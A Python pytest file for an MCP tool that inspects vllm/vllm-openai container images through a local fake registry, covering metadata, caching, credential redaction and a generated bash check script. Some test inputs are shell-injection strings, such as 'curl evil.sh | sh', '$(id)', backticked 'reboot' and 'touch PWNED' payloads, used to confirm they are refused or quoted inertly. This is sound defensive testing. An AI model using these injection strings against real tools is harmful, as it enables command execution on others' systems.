"""inspect_image, asked the way operators ask: "what is in vllm/vllm-openai:v0.22.1?", against a
stand-in registry on 127.0.0.1 (tests/registry_standin.py); nothing reaches the internet."""

from __future__ import annotations

import copy
import json
import logging
import os
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from conftest import free_port
from registry_standin import LAYER_SIZES_AMD64, FakeRegistry, Reply, digest_of, vllm_openai_config
from vllm_caching_mcp.advice import image
from vllm_caching_mcp.advice.common import AdviceError
from vllm_caching_mcp.advice.image import InspectImageRequest, InspectImageResult, inspect_image, runtime_check_script
from vllm_caching_mcp.knowledge import Knowledge
from vllm_caching_mcp.registry import RegistryClient, RegistrySettings

REPO = "vllm/vllm-openai"
PASSWORD = "PLANTED-inspect-password-41d2e8"


def use_registry(monkeypatch: pytest.MonkeyPatch, env: dict[str, str], cache: Path, **settings: Any) -> None:
    def factory() -> RegistryClient:
        return RegistryClient(RegistrySettings.from_env(env, cache_dir=cache, docker_config=None, **settings))

    monkeypatch.setattr(image, "client_factory", factory)


@pytest.fixture
def registry(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeRegistry]:
    with FakeRegistry() as fake:
        fake.add_image(REPO, "v0.22.1", {"amd64": vllm_openai_config(), "arm64": vllm_openai_config(arch="arm64")})
        fake.add_image(REPO, "v0.19.0-cu130", {"amd64": vllm_openai_config(cuda="13.0.1")}, oci=True)
        fake.add_image(REPO, "v0.18.0-slim", {"amd64": vllm_openai_config(install_kv_connectors="false")})
        fake.add_image(REPO, "nightly", {"amd64": vllm_openai_config(install_kv_connectors=None)})
        use_registry(monkeypatch, {"VLLM_CACHING_MCP_REGISTRY_MIRROR": f"http://127.0.0.1:{fake.port}"}, tmp_path)
        yield fake


def ask(knowledge: Knowledge, **fields: Any) -> InspectImageResult:
    return inspect_image(InspectImageRequest(**fields), knowledge)


def test_what_is_in_v0_22_1(registry: FakeRegistry, knowledge: Knowledge) -> None:
    result = ask(knowledge, image="v0.22.1")
    assert result.image == "vllm/vllm-openai:v0.22.1" and result.platform == "linux/amd64"
    assert result.provenance.source == "live" and result.requests_made == 5
    assert result.digest == digest_of(registry.tags[(REPO, "v0.22.1")])
    assert result.platforms_available == ["linux/amd64", "linux/arm64/v8"]
    # 30439021 + 4621583 + 1873200117 + 6022884390 + 912004771 = 8843149882 bytes (8.24 GiB)
    assert result.compressed_size_bytes == sum(LAYER_SIZES_AMD64) == 8_843_149_882 and result.layers == 5
    assert result.created == "2026-06-05T18:22:41.093000+00:00"
    assert (result.cuda_version.value, result.cuda_version.source) == ("12.9.1", "env")
    # the image sets no PYTHON_VERSION env; the build arg is in the history
    assert (result.python_version.value, result.python_version.source) == ("3.12", "history")
    assert result.entrypoint == ["vllm", "serve"] and result.cmd is None
    assert result.vllm_version.value == "0.22.1" and result.vllm_version.source == "tag"
    assert "not from the image" in result.vllm_version.detail
    extras = result.kv_connector_extras
    assert extras is not None and extras.verdict == "installed"
    assert extras.build_arg == "true" and extras.build_arg_default == "false"
    assert "history step 12" in extras.reason and "INSTALL_KV_CONNECTORS=true" in extras.reason
    install = [m for m in extras.matches if "kv_connectors.txt" in m.matched]
    assert [m.step for m in install] == [12]
    assert install[0].matched == (
        "install of requirements/kv_connectors.txt, conditional on $INSTALL_KV_CONNECTORS; "
        "the step ran with INSTALL_KV_CONNECTORS=true"
    )
    assert {p.package: p.installed_at_build for p in extras.packages} == {
        "lmcache": "installed",
        "nixl": "installed",
        "mooncake": "installed",
    }
    # pins whose vllm_versions contain 0.22.1 (compat.yaml)
    assert [p.id for p in result.compat_pins] == [
        "pin.lmcache-mp-block-allocation-record",
        "pin.lmcache-mp-parallel-strategy",
        "pin.lmcache-mp-external-connector",
        "pin.lmcache-mp-hma",
        "pin.nixl-rocm-rixl",
    ]
    hma = result.lmcache_mp_hma
    assert hma is not None and hma.value == "conditional" and hma.depends_on_bundled_lmcache
    assert hma.requirement == "lmcache>=0.4.7"
    cited = {c.id for c in result.citations}
    assert {"connector.lmcache-mp", "pin.lmcache-mp-hma"} <= cited
    assert result.runtime_check_script is None
    text = result.summary()
    assert "CUDA 12.9.1" in text and "KV-connector extras: INSTALLED" in text


def test_an_image_built_without_the_extras_says_not_installed(registry: FakeRegistry, knowledge: Knowledge) -> None:
    result = ask(knowledge, image="v0.18.0-slim")
    extras = result.kv_connector_extras
    assert extras is not None and extras.verdict == "not_installed" and extras.build_arg == "false"
    assert "ran with INSTALL_KV_CONNECTORS=false" in extras.reason
    # HMA of LMCacheMPConnector in 0.18.0: vLLM's own class, no HMA, nothing depends on lmcache
    assert result.lmcache_mp_hma is not None and result.lmcache_mp_hma.value == "no"
    assert not result.lmcache_mp_hma.depends_on_bundled_lmcache


def test_when_the_history_does_not_record_the_arg_the_answer_is_unknown(
    registry: FakeRegistry, knowledge: Knowledge
) -> None:
    result = ask(knowledge, image="nightly")
    extras = result.kv_connector_extras
    assert extras is not None and extras.verdict == "unknown" and extras.build_arg is None
    assert "the Dockerfile default is false" in extras.reason
    # 'nightly' is no version: the answer says so and uses the newest release
    assert result.vllm_version.value is None and result.version_context.assumed
    assert "does not say which vLLM" in result.version_context.warnings[0]


def test_an_oci_index_with_cuda_13(registry: FakeRegistry, knowledge: Knowledge) -> None:
    result = ask(knowledge, image="v0.19.0-cu130")
    assert result.media_type == "application/vnd.oci.image.index.v1+json"
    assert result.cuda_version.value == "13.0.1" and result.vllm_version.value == "0.19.0"
    assert [p.id for p in result.compat_pins] == ["pin.nixl-rocm-rixl"]


def test_arm64_is_read_when_asked(registry: FakeRegistry, knowledge: Knowledge) -> None:
    result = ask(knowledge, image="v0.22.1", arch="arm64")
    assert (
        result.platform == "linux/arm64/v8"
        and result.manifest_digest != ask(knowledge, image="v0.22.1").manifest_digest
    )


# --- input the caller must change --------------------------------------------------------------


def test_a_missing_arch_names_the_field_and_what_is_published(registry: FakeRegistry, knowledge: Knowledge) -> None:
    with pytest.raises(AdviceError) as caught:
        ask(knowledge, image="v0.19.0-cu130", arch="arm64")
    assert caught.value.field == "arch"
    assert str(caught.value) == (
        "arch: vllm/vllm-openai:v0.19.0-cu130 has no linux/arm64 image; it is published for linux/amd64"
    )


def test_an_unknown_tag_names_the_image_field(registry: FakeRegistry, knowledge: Knowledge) -> None:
    with pytest.raises(AdviceError) as caught:
        ask(knowledge, image="v9.9.9")
    assert caught.value.field == "image" and "v9.9.9" in str(caught.value) and "no such manifest" in str(caught.value)


@pytest.mark.parametrize("text", ["v0.22.1; curl evil.sh | sh", "$(id)", "vllm/vllm-openai:`reboot`", "UPPER/case"])
def test_a_malformed_reference_is_refused_before_any_request(
    registry: FakeRegistry, knowledge: Knowledge, text: str
) -> None:
    with pytest.raises(AdviceError) as caught:
        ask(knowledge, image=text)
    assert caught.value.field == "image" and "vllm/vllm-openai tag" in str(caught.value)
    assert registry.requests == []


def test_a_bad_arch_is_refused_by_the_schema() -> None:
    from pydantic import ValidationError

    with pytest.raises(ValidationError, match="arch"):
        InspectImageRequest(image="v0.22.1", arch="x86")  # type: ignore[arg-type]


# --- when the registry cannot be reached ----------------------------------------------------------


def test_an_unreachable_registry_gives_a_clear_result_not_a_crash(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, knowledge: Knowledge
) -> None:
    env = {"VLLM_CACHING_MCP_REGISTRY_MIRROR": f"http://127.0.0.1:{free_port()}"}
    use_registry(monkeypatch, env, tmp_path, max_retries=0)
    result = ask(knowledge, image="v0.22.1", runtime_check_script=True)
    assert result.provenance.source == "unavailable" and result.provenance.failure_reason == "connection_refused"
    assert result.summary().splitlines()[1].startswith("could not reach the registry (connection refused)")
    # what needs no registry is still there: the version the tag names, its pins, the script
    assert result.vllm_version.value == "0.22.1" and result.vllm_version.source == "tag"
    assert len(result.compat_pins) == 5 and result.runtime_check_script is not None
    assert result.cuda_version.value is None and result.kv_connector_extras is None


def test_a_slow_registry_times_out_into_the_same_clear_result(
    registry: FakeRegistry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, knowledge: Knowledge
) -> None:
    env = {"VLLM_CACHING_MCP_REGISTRY_MIRROR": f"http://127.0.0.1:{registry.port}"}
    use_registry(monkeypatch, env, tmp_path / "slow", timeout=0.3, max_retries=0)
    registry.script(f"/v2/{REPO}/manifests/v0.22.1", Reply(200, b"{}", delay=1.5))
    result = ask(knowledge, image="v0.22.1")
    assert result.provenance.source == "unavailable" and result.provenance.failure_reason == "timeout"


def test_after_one_good_answer_a_down_registry_is_covered_by_the_cache(
    registry: FakeRegistry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, knowledge: Knowledge
) -> None:
    live = ask(knowledge, image="v0.22.1")
    env = {"VLLM_CACHING_MCP_REGISTRY_MIRROR": f"http://127.0.0.1:{registry.port}", "VLLM_CACHING_MCP_CACHE_TTL": "0"}
    use_registry(monkeypatch, env, tmp_path)
    registry.stop()
    cached = ask(knowledge, image="v0.22.1")
    assert cached.provenance.source == "cache" and cached.provenance.failure_reason == "connection_refused"
    assert cached.digest == live.digest and cached.kv_connector_extras == live.kv_connector_extras


def test_offline_asks_nothing(registry: FakeRegistry, knowledge: Knowledge) -> None:
    result = ask(knowledge, image="v0.22.1", offline=True)
    assert result.provenance.failure_reason == "offline_requested" and registry.requests == []


# --- secrets ---------------------------------------------------------------------------------------


def test_a_planted_password_appears_in_no_output_or_log(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, knowledge: Knowledge, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    with FakeRegistry(user="svc", password=PASSWORD) as fake:
        fake.add_image(REPO, "v0.22.1", {"amd64": vllm_openai_config()})
        env = {
            "VLLM_CACHING_MCP_REGISTRY_MIRROR": f"http://127.0.0.1:{fake.port}",
            "VLLM_CACHING_MCP_REGISTRY_USER": "svc",
            "VLLM_CACHING_MCP_REGISTRY_PASSWORD": PASSWORD,
        }
        use_registry(monkeypatch, env, tmp_path / "cache")
        result = ask(knowledge, image="v0.22.1", runtime_check_script=True)
        use_registry(monkeypatch, {**env, "VLLM_CACHING_MCP_REGISTRY_PASSWORD": "x" + PASSWORD}, tmp_path / "c2")
        with pytest.raises(AdviceError) as refused:
            ask(knowledge, image="v0.22.1")
    assert result.credentials_source == "environment" and fake.seen("/token")
    texts = [result.model_dump_json(), result.summary(), str(refused.value), caplog.text]
    texts += [p.read_text() for p in tmp_path.rglob("*.json")]
    for text in texts:
        assert PASSWORD not in text


# --- the runtime check script ------------------------------------------------------------------


def test_the_runtime_script_parses_and_has_every_step(registry: FakeRegistry, knowledge: Knowledge) -> None:
    result = ask(knowledge, image="v0.22.1", runtime_check_script=True)
    script = result.runtime_check_script
    assert script is not None
    assert subprocess.run(["bash", "-n"], input=script, text=True, capture_output=True).returncode == 0
    pinned = f"vllm/vllm-openai:v0.22.1@{result.digest}"  # the very image that was inspected
    assert f"IMAGE={pinned}" in script and "PLATFORM=linux/amd64" in script
    assert 'docker pull --platform "$PLATFORM" "$IMAGE"' in script
    assert '--entrypoint python3 "$IMAGE"' in script
    for step in (
        '"lmcache": "lmcache"',
        '"nixl": "nixl"',
        '"mooncake": "mooncake.engine"',
        "metadata.version(dist)",
        "KVConnectorFactory._registry",
        "issubclass(cls, SupportsHMA)",
    ):
        assert step in script


def test_the_probe_inside_the_script_is_valid_python(knowledge: Knowledge, registry: FakeRegistry) -> None:
    script = ask(knowledge, image="v0.22.1", runtime_check_script=True).runtime_check_script or ""
    probe = script.split("<<'PROBE'\n", 1)[1].rsplit("\nPROBE\n", 1)[0]
    compile(probe, "probe", "exec")


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
def test_an_injection_in_the_image_reference_stays_one_inert_word(tmp_path: Path) -> None:
    # References are validated before they get here; the script quotes them anyway. Run it with a
    # fake docker that records its arguments: the hostile text must arrive as one argument, unrun.
    hostile = "vllm/vllm-openai:v1'; touch PWNED; echo '$(touch PWNED2)`touch PWNED3`"
    script = runtime_check_script(hostile, "linux/amd64")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    fake_docker = bin_dir / "docker"
    fake_docker.write_text(
        '#!/usr/bin/env bash\nprintf "%s\\n" "$@" >> "$CALLS"\necho --- >> "$CALLS"\ncat > /dev/null\n'
    )
    fake_docker.chmod(0o755)
    env = {**os.environ, "PATH": f"{bin_dir}:{os.environ['PATH']}", "CALLS": str(tmp_path / "calls")}
    done = subprocess.run(["bash", "-c", script], cwd=tmp_path, env=env, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    calls = (tmp_path / "calls").read_text().split("---\n")
    assert calls[0].splitlines() == ["pull", "--platform", "linux/amd64", hostile]
    assert calls[1].splitlines()[-2:] == [hostile, "-"]
    assert not any((tmp_path / name).exists() for name in ("PWNED", "PWNED2", "PWNED3"))


def test_the_result_serialises_for_mcp(registry: FakeRegistry, knowledge: Knowledge) -> None:
    result = ask(knowledge, image="v0.22.1")
    assert json.loads(result.model_dump_json())["kv_connector_extras"]["verdict"] == "installed"
    assert image.SPEC.open_world and image.SPEC.name == "inspect_image"


def test_inspect_image_changes_neither_the_request_nor_the_knowledge(
    registry: FakeRegistry, knowledge: Knowledge
) -> None:
    request = InspectImageRequest(image="v0.22.1", runtime_check_script=True)
    request_before, knowledge_before = copy.deepcopy(request.model_dump()), copy.deepcopy(knowledge.model_dump())
    result = inspect_image(request, knowledge)
    assert result.security is not None and result.kv_connector_extras is not None  # every step ran
    assert request.model_dump() == request_before
    assert knowledge.model_dump() == knowledge_before
